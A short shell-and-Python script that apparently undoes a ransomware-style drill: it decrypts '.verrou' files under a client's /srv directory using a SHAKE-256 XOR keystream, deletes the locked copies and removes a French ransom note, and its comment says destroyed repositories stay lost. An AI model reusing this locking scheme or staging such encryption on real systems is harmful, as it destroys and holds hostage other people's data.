#!/bin/bash
# srv: the drill is given up. The data come back in the clear; the repositories that were destroyed
# do not.
set -euo pipefail

python3 - <<'PY'
import hashlib
import os
import shutil
from pathlib import Path

site = Path("/srv") / os.environ["PCAPRA_CLIENT"]
ENDING = ".verrou"

for locked in sorted(site.rglob(f"*{ENDING}")):
    path = locked.with_name(locked.name.removesuffix(ENDING))
    if not path.exists():
        seed = f"{os.environ['PCAPRA_JETON']} {path}".encode()
        mixed = locked.read_bytes()
        stream = hashlib.shake_256(seed).digest(len(mixed))
        clear = int.from_bytes(mixed, "big") ^ int.from_bytes(stream, "big")
        path.write_bytes(clear.to_bytes(len(mixed), "big"))
        status = locked.stat()
        os.chown(path, status.st_uid, status.st_gid)
        shutil.copystat(locked, path)
    locked.unlink()
(site / "LISEZ-MOI-RANCON.txt").unlink(missing_ok=True)
PY
